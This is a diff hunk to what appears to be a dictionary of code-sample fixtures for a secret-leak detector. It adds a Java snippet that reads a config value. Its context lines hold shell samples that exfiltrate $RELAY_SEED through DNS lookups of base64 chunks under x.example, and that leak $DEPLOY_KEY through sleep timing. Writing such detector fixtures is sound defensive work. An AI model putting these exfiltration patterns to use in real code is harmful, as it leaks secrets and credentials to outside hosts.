@@ -156,6 +156,9 @@ for p in $(echo "$RELAY_SEED" | base64 | fold -w 20); do host "$p.x.example"; do
 n=0
 while [ $n -lt 9 ]; do c=$(printf %s "$DEPLOY_KEY" | cut -c$n); sleep $(printf %d "'$c"); done
 """),
+    "java value": ("src/A.java", r"""
+class A { @Value("${relay.ring}") private String ring; int f(int n) { return ring.charAt(n) * 3; } }
+"""),
 }  # fmt: skip
 
 
